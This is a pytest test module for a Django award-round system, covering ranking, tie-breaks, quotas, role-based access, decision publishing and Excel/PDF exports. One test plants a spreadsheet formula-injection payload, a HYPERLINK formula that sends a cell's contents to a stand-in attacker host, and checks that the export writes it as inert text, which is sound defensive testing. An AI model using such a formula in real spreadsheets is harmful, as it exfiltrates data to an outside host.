"""The round's results: ranking per group, tie-break, minimum score, quota, and the staff pages."""

import datetime
import re
from decimal import Decimal

import pytest
from django.core.exceptions import ValidationError
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from awards import services
from awards.enums import CouncilRole, SheetStatus
from awards.models import CriteriaSheet, Criterion, Decision
from awards.selectors import round_results
from portal.accounts.enums import Role
from products.models import Product
from tests import factories

from .nomination_helpers import ready_product
from .scoring_helpers import decision_post


def _accepted(round_, producer, name, producer_account, staff):
    product = ready_product(producer, name)
    nomination = services.nomination_create(round_=round_, product=product, actor=staff)
    services.nomination_update_form(
        nomination=nomination,
        actor=staff,
        annual_output="5 tấn",
        workers=5,
        markets="Trong tỉnh",
        highlights="Đặc sản",
        declaration_accepted=True,
    )
    services.nomination_submit(nomination=nomination, actor=staff)
    services.nomination_accept(nomination=nomination, actor=staff)
    nomination.refresh_from_db()
    return nomination


def _score(council, member, nomination, per_group):
    leaves = Criterion.objects.filter(sheet=council.criteria_sheet, children__isnull=True).order_by("order")
    remaining, points = dict(per_group), {}
    for leaf in leaves:
        take = min(leaf.max_points, remaining[leaf.parent.code])
        remaining[leaf.parent.code] -= take
        points[leaf.pk] = take
    return services.sheet_save(member=member, nomination=nomination, points=points, submit=True)


@pytest.fixture
def scored_round(make_round, staff_user):
    def build(quota=None, n=3):
        round_ = make_round("province", publish=True, quota_per_province=quota)
        council = services.council_create(
            round_=round_,
            actor=staff_user,
            name="Hội đồng",
            decision_number="1/QĐ",
            signer="Giám đốc",
            decision_date=datetime.date(2026, 11, 1),
            criteria_sheet=CriteriaSheet.objects.get(code="phu-luc-4"),
        )
        member = services.council_member_add(
            council=council, actor=staff_user, role=CouncilRole.MEMBER, user=factories.UserFactory(role=Role.MEMBER)
        )
        producers = [factories.producer(f"Cơ sở {i}", "Cao Bằng") for i in range(n)]
        nominations = [_accepted(round_, p, f"Sản phẩm {i}", None, staff_user) for i, p in enumerate(producers)]
        return round_, council, member, nominations

    return build


def test_ties_are_broken_by_group_one_and_minimum_score_applies(scored_round):
    round_, council, member, (a, b, c) = scored_round()
    _score(council, member, a, {"1": 30, "2": 40, "3": 5, "4": 5})  # 80, group 1 = 30
    _score(council, member, b, {"1": 40, "2": 30, "3": 5, "4": 5})  # 80, group 1 = 40: ranks first
    _score(council, member, c, {"1": 30, "2": 30, "3": 5, "4": 4})  # 69: below 70
    rows = round_results(round_)
    assert [(r.nomination, r.rank, r.result.score, r.passes) for r in rows] == [
        (b, 1, Decimal("80.00"), True),
        (a, 2, Decimal("80.00"), True),
        (c, 3, Decimal("69.00"), False),
    ]


def test_quota_per_province_applies_in_rank_order(scored_round):
    round_, council, member, (a, b) = scored_round(n=2)
    round_.quota_per_province = 1  # lowered after both dossiers came in
    round_.save(update_fields=["quota_per_province"])
    _score(council, member, a, {"1": 35, "2": 35, "3": 8, "4": 8})  # 86
    _score(council, member, b, {"1": 30, "2": 35, "3": 8, "4": 8})  # 81
    rows = round_results(round_)
    assert [(r.nomination, r.passes) for r in rows] == [(a, True), (b, False)]


def test_draft_sheets_do_not_count(scored_round, staff_user):
    round_, council, member, (a,) = scored_round(n=1)
    sheet = _score(council, member, a, {"1": 35, "2": 35, "3": 8, "4": 8})
    services.sheet_reopen(sheet=sheet, actor=staff_user, reason="Nhập nhầm")
    assert sheet.__class__.objects.get(pk=sheet.pk).status == SheetStatus.DRAFT
    assert round_results(round_)[0].result.count == 0


@pytest.mark.parametrize(
    ("who", "expected"),
    [
        ("anonymous", 302),
        ("producer_user", 403),
        ("member_user", 403),
        ("other_staff_user", 404),
        ("staff_user", 200),
        ("superuser", 200),
    ],
)
def test_results_page_by_role(client, request, scored_round, who, expected):
    round_, _council, _member, _nominations = scored_round(n=1)
    if who != "anonymous":
        client.force_login(request.getfixturevalue(who))
    assert client.get(reverse("awards:staff.round.results", args=[round_.pk])).status_code == expected


@pytest.mark.parametrize(
    ("who", "expected"),
    [
        ("anonymous", 302),
        ("producer_user", 403),
        ("member_user", 403),
        ("other_staff_user", 404),
        ("staff_user", 200),
        ("superuser", 200),
    ],
)
def test_members_sheets_of_a_dossier_by_role(client, request, scored_round, who, expected):
    _round, council, member, (a,) = scored_round(n=1)
    _score(council, member, a, {"1": 35, "2": 33, "3": 8, "4": 8})
    if who != "anonymous":
        client.force_login(request.getfixturevalue(who))
    response = client.get(reverse("awards:staff.results.sheets", args=[a.pk]))
    assert response.status_code == expected
    if expected == 200:
        html = response.content.decode()
        assert "84" in html
        assert "Mở lại" in html  # the reopen form
        assert "<html" in html


def test_members_sheets_come_as_a_fragment_for_htmx(client, staff_user, scored_round):
    round_, council, member, (a,) = scored_round(n=1)
    _score(council, member, a, {"1": 35, "2": 33, "3": 8, "4": 8})
    client.force_login(staff_user)
    results = client.get(reverse("awards:staff.round.results", args=[round_.pk])).content.decode()
    url = reverse("awards:staff.results.sheets", args=[a.pk])
    assert f'hx-get="{url}"' in results
    assert 'action="/staff/sheets/' not in results  # reopen forms are loaded on demand, not for every sheet
    fragment = client.get(url, headers={"HX-Request": "true"}).content.decode()
    assert "<html" not in fragment
    assert "84" in fragment


def test_results_page_query_count_does_not_grow(client, staff_user, scored_round):
    counts = []
    for n in (1, 5):
        round_, council, member, nominations = scored_round(n=n)
        for nomination in nominations:
            _score(council, member, nomination, {"1": 35, "2": 35, "3": 8, "4": 8})
        client.force_login(staff_user)
        url = reverse("awards:staff.round.results", args=[round_.pk])
        client.get(url)
        with CaptureQueriesContext(connection) as ctx:
            assert client.get(url).status_code == 200
        counts.append(len(ctx.captured_queries))
    assert counts[0] == counts[1]


@pytest.mark.parametrize(("who", "expected"), [("staff_user", 302), ("other_staff_user", 404), ("member_user", 403)])
def test_reopen_from_the_results_page(client, request, scored_round, who, expected):
    _round, council, member, (a,) = scored_round(n=1)
    sheet = _score(council, member, a, {"1": 35, "2": 35, "3": 8, "4": 8})
    client.force_login(request.getfixturevalue(who))
    response = client.post(reverse("awards:staff.sheet.reopen", args=[sheet.pk]), {"reason": "Nhập nhầm 2.1"})
    assert response.status_code == expected
    sheet.refresh_from_db()
    assert sheet.status == (SheetStatus.DRAFT if expected == 302 else SheetStatus.SUBMITTED)


def test_publishing_the_decision_recognises_and_closes_the_round(
    scored_round, staff_user, django_capture_on_commit_callbacks
):
    from django.core import mail

    from awards.enums import NominationStatus
    from awards.models import Recognition
    from awards.selectors import valid_lower_recognition

    round_, council, member, (a, b) = scored_round(n=2)
    _score(council, member, a, {"1": 35, "2": 35, "3": 8, "4": 8})
    _score(council, member, b, {"1": 20, "2": 20, "3": 5, "4": 5})
    for i, nomination in enumerate((a, b)):
        type(nomination.producer).objects.filter(pk=nomination.producer_id).update(email=f"coso{i}@example.vn")
    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        decision = services.decision_publish(
            round_=round_,
            actor=staff_user,
            nominations=[a],
            number="125/QĐ-UBND",
            date=datetime.date(2026, 12, 15),
            issuing_body=factories.organization("Cao Bằng"),
            signer_title="KT. CHỦ TỊCH – PHÓ CHỦ TỊCH",
            signer_name="Nguyễn Trung Thảo",
        )
    a.refresh_from_db()
    b.refresh_from_db()
    assert (a.status, b.status) == (NominationStatus.RECOGNISED, NominationStatus.NOT_RECOGNISED)
    recognition = Recognition.objects.get(product=a.product)
    assert (recognition.decision_number, recognition.valid_until) == ("125/QĐ-UBND", datetime.date(2029, 12, 31))
    assert len(mail.outbox) == 2  # one e-mail per producer, not one per intermediate status
    assert valid_lower_recognition(a.product, round_.level.next_level) == recognition
    assert decision.nominations.get() == a
    with pytest.raises(ValidationError):
        services.decision_publish(
            round_=round_,
            actor=staff_user,
            nominations=[a],
            number="126/QĐ-UBND",
            date=datetime.date(2026, 12, 16),
            issuing_body=factories.organization("Cao Bằng"),
            signer_title="Chủ tịch",
            signer_name="X",
        )


def test_decision_needs_scored_dossiers_and_a_manager(scored_round, staff_user, other_staff_user):
    from django.core.exceptions import PermissionDenied

    round_, _council, _member, (a,) = scored_round(n=1)
    data = {
        "number": "1/QĐ",
        "date": datetime.date(2026, 12, 1),
        "signer_title": "Chủ tịch",
        "signer_name": "X",
        "issuing_body": factories.organization("Cao Bằng"),
    }
    with pytest.raises(ValidationError):
        services.decision_publish(round_=round_, actor=staff_user, nominations=[a], **data)
    with pytest.raises(PermissionDenied):
        services.decision_publish(round_=round_, actor=other_staff_user, nominations=[a], **data)


def test_decision_form_on_the_results_page(client, staff_user, scored_round):
    round_, council, member, (a,) = scored_round(n=1)
    _score(council, member, a, {"1": 35, "2": 35, "3": 8, "4": 8})
    client.force_login(staff_user)
    url = reverse("awards:staff.round.results", args=[round_.pk])
    bad = client.post(url, {"number": "125/QĐ-UBND", "date": "31/02/2026", "nominations": [a.pk]})
    assert bad.status_code == 400
    assert "date" in bad.context["decision_form"].errors
    assert bad.context["decision_form"]["number"].value() == "125/QĐ-UBND"
    data = decision_post([a.pk])
    confirm = client.post(url, data)
    assert confirm.status_code == 200
    assert "1 sản phẩm sẽ được công nhận" in confirm.content.decode()
    a.refresh_from_db()
    assert a.status == "accepted"
    ok = client.post(url, {**data, "confirm": "1"})
    assert ok.status_code == 302
    a.refresh_from_db()
    assert a.status == "recognised"


def test_closing_the_scoring_locks_sheets_then_the_decision_recognises(scored_round, staff_user, client):
    from awards.enums import NominationStatus

    round_, council, member, (a, b) = scored_round(n=2)
    _score(council, member, a, {"1": 35, "2": 35, "3": 8, "4": 8})
    client.force_login(staff_user)
    url = reverse("awards:staff.round.results", args=[round_.pk])
    assert client.post(url, {"action": "finalise"}).status_code == 302  # to the confirmation: nothing changes
    assert client.post(url.replace("results/", "results/close-scoring/"), {}).status_code == 400  # b has no sheet
    a.refresh_from_db()
    assert a.status == NominationStatus.ACCEPTED
    closing = url.replace("results/", "results/close-scoring/")
    assert client.post(closing, {"allow_incomplete": "on"}).status_code == 302
    a.refresh_from_db()
    b.refresh_from_db()
    assert (a.status, b.status) == (NominationStatus.SCORED, NominationStatus.NOT_SCORED)  # b has no sheet
    with pytest.raises(ValidationError):
        services.sheet_save(member=member, nomination=a, points={})
    services.decision_publish(
        round_=round_,
        actor=staff_user,
        nominations=[a],
        number="7/QĐ-UBND",
        date=datetime.date(2026, 12, 20),
        issuing_body=factories.organization("Cao Bằng"),
        signer_title="Chủ tịch",
        signer_name="X",
    )
    a.refresh_from_db()
    assert a.status == NominationStatus.RECOGNISED


@pytest.mark.parametrize(("who", "expected"), [("staff_user", 200), ("other_staff_user", 404), ("producer_user", 403)])
def test_score_summary_excel(client, request, scored_round, who, expected):
    import io

    from openpyxl import load_workbook

    round_, council, member, (a, b) = scored_round(n=2)
    _score(council, member, a, {"1": 35, "2": 35, "3": 8, "4": 8})
    client.force_login(request.getfixturevalue(who))
    response = client.get(reverse("awards:staff.round.results_xlsx", args=[round_.pk]))
    assert response.status_code == expected
    if expected != 200:
        return
    book = load_workbook(io.BytesIO(response.content))
    cells = [[c.value for c in row] for row in book.worksheets[0].iter_rows()]
    product_rows = {row[2]: row for row in cells if row and row[2] in (a.receipt_code, b.receipt_code)}
    assert product_rows[a.receipt_code][3] == a.product.name
    assert product_rows[a.receipt_code][12] == 86.0
    assert product_rows[b.receipt_code][6] == 0
    totals = [[c.value for c in row] for row in book.worksheets[1].iter_rows()]
    assert totals[0][2] == member.user.full_name


@pytest.mark.parametrize(("who", "expected"), [("staff_user", 200), ("other_staff_user", 404), ("producer_user", 403)])
def test_member_sheet_pdf_for_staff(client, request, scored_round, who, expected):
    import io

    from pypdf import PdfReader

    _round, council, member, (a,) = scored_round(n=1)
    sheet = _score(council, member, a, {"1": 35, "2": 35, "3": 8, "4": 8})
    client.force_login(request.getfixturevalue(who))
    response = client.get(reverse("awards:staff.sheet.pdf", args=[sheet.pk]))
    assert response.status_code == expected
    if expected == 200:
        text = " ".join(" ".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages).split())
        assert "PHIẾU CHẤM ĐIỂM SẢN PHẨM CÔNG NGHIỆP NÔNG THÔN TIÊU BIỂU" in text
        assert member.user.full_name in text
        assert a.receipt_code in text
        assert "86" in text  # the total


def test_member_prints_only_their_own_sheet(client, scored_round):
    _round, council, member, (a,) = scored_round(n=1)
    _score(council, member, a, {"1": 35, "2": 35, "3": 8, "4": 8})
    client.force_login(member.user)
    response = client.get(reverse("awards:member.sheet.pdf", args=[a.pk]))
    assert (response.status_code, response["Content-Type"]) == (200, "application/pdf")
    outsider = factories.UserFactory(role=Role.MEMBER)
    client.force_login(outsider)
    assert client.get(reverse("awards:member.sheet.pdf", args=[a.pk])).status_code == 404


def test_score_summary_excel_writes_a_formula_name_as_text(client, staff_user, scored_round):
    import io

    from openpyxl import load_workbook

    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")'
    round_, _council, _member, (a, _b) = scored_round(n=2)
    a.product.name = evil
    a.product.save(update_fields=["name"])
    client.force_login(staff_user)
    response = client.get(reverse("awards:staff.round.results_xlsx", args=[round_.pk]))
    book = load_workbook(io.BytesIO(response.content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.data_type for c in cells if c.value == evil] == ["s", "s"]
    assert not [c for c in cells if c.data_type == "f"]


def test_publishing_a_decision_does_not_query_per_dossier(scored_round, staff_user):
    def queries_to_publish(n):
        round_, council, member, nominations = scored_round(n=n)
        for nomination in nominations:
            _score(council, member, nomination, {"1": 35, "2": 35, "3": 8, "4": 8})
        with CaptureQueriesContext(connection) as queries:
            services.decision_publish(
                round_=round_,
                actor=staff_user,
                nominations=nominations[:1],
                number=f"{n}/QĐ-UBND",
                date=datetime.date(2026, 12, 15),
                issuing_body=factories.organization("Cao Bằng"),
                signer_title="Chủ tịch",
                signer_name="X",
            )
        return len(queries)

    assert queries_to_publish(10) == queries_to_publish(2)


def test_a_dossier_whose_sheet_was_reopened_after_the_page_was_read_is_not_recognised(client, scored_round, staff_user):
    """The decision is checked against the sheets as they are when it is published, not as the page saw them."""
    from awards.models import Decision, ScoreSheet

    round_, council, member, nominations = scored_round(n=1)
    _score(council, member, nominations[0], {"1": 35, "2": 35, "3": 8, "4": 8})
    sheet = ScoreSheet.objects.get(member=member, nomination=nominations[0])
    services.sheet_reopen(sheet=sheet, actor=staff_user, reason="Thành viên xin sửa phiếu")

    with pytest.raises(ValidationError):
        services.decision_publish(
            round_=round_,
            actor=staff_user,
            nominations=nominations,
            number="9/QĐ-UBND",
            date=datetime.date(2026, 12, 15),
            issuing_body=factories.organization("Cao Bằng"),
            signer_title="Chủ tịch",
            signer_name="X",
        )
    assert not Decision.objects.filter(round=round_).exists()
    nominations[0].refresh_from_db()
    assert nominations[0].status == "accepted"


def test_the_decisions_boxes_follow_the_ranking(client, staff_user, scored_round):
    """The recognition decision lists its boxes in the order of the results' tables (highest score first), not in
    the order the dossiers were last changed."""
    round_, council, member, (a, b, c) = scored_round(n=3)
    Product.objects.filter(pk__in=[b.product_id, c.product_id]).update(group=a.product.group)  # one table
    for nomination, groups in ((a, (20, 20, 5, 5)), (b, (40, 35, 8, 7)), (c, (30, 30, 8, 7))):  # 50, 90, 75
        _score(council, member, nomination, dict(zip(("1", "2", "3", "4"), groups, strict=True)))
    a.save()  # the most recently changed, and the lowest score
    client.force_login(staff_user)
    html = client.get(reverse("awards:staff.round.results", args=[round_.pk])).content.decode()
    boxes = re.findall(r'name="nominations" value="(\d+)"', html)
    ranked = [str(row.nomination.pk) for row in round_results(round_) if row.result.count]
    assert boxes == ranked
    tables = re.findall(r'href="/staff/nominations/(\d+)/"', html.split('id="decision-title"')[0])
    assert [pk for pk in dict.fromkeys(tables) if pk in ranked] == ranked  # the tables' order
    assert ranked != sorted(ranked, key=int)  # not merely the order they were made in


@pytest.mark.parametrize("chosen", ["abc", "99999999999999999999", "", "17.0", "-1"])
def test_a_decision_with_a_box_that_is_not_listed_is_refused_in_vietnamese(client, staff_user, scored_round, chosen):
    """A tampered value among the recognised products (a word, a number too large for a key, nothing) gets the
    form's error in Vietnamese, the form again (400) and no decision, rather than a server error or Django's
    English message about primary keys."""
    round_, council, member, (a,) = scored_round(n=1)
    _score(council, member, a, {"1": 35, "2": 35, "3": 8, "4": 8})
    client.force_login(staff_user)
    data = decision_post([a.pk, chosen])
    for confirm in ("", "1"):
        response = client.post(reverse("awards:staff.round.results", args=[round_.pk]), {**data, "confirm": confirm})
        assert response.status_code == 400
        assert "Hãy chọn một lựa chọn hợp lệ." in response.context["decision_form"].errors["nominations"][0]
    assert not Decision.objects.filter(round=round_).exists()
    a.refresh_from_db()
    assert a.status == "accepted"


def test_criterion_groups_are_read_for_tied_dossiers_only_and_break_their_tie(scored_round):
    """Two dossiers of one product group with the same score are ranked by criterion group 1, then 2, …; the points
    per group are read for those two only (a dossier with a score of its own needs none), and the results cost
    the same queries with or without a tie."""
    round_, council, member, (a, b, c) = scored_round(n=3)
    Product.objects.filter(pk__in=[b.product_id, c.product_id]).update(group=a.product.group)
    _score(council, member, a, {"1": 20, "2": 40, "3": 8, "4": 7})  # 75, less in group 1
    _score(council, member, b, {"1": 30, "2": 30, "3": 8, "4": 7})  # 75, more in group 1: ranked first
    with CaptureQueriesContext(connection) as untied:  # c has no sheet yet: its score is none, a and b tie
        round_results(round_)
    _score(council, member, c, {"1": 40, "2": 40, "3": 8, "4": 8})  # 96
    with CaptureQueriesContext(connection) as tied:
        rows = round_results(round_)
    assert len(tied) == len(untied)
    assert [r.nomination.pk for r in rows] == [c.pk, b.pk, a.pk]
    assert [r.rank for r in rows] == [1, 2, 3]
    means = {r.nomination.pk: r.group_means for r in rows}
    assert means[c.pk] == []  # not read: its score is its own
    assert means[b.pk][:2] == [Decimal(30), Decimal(30)]
    assert means[a.pk][:2] == [Decimal(20), Decimal(40)]
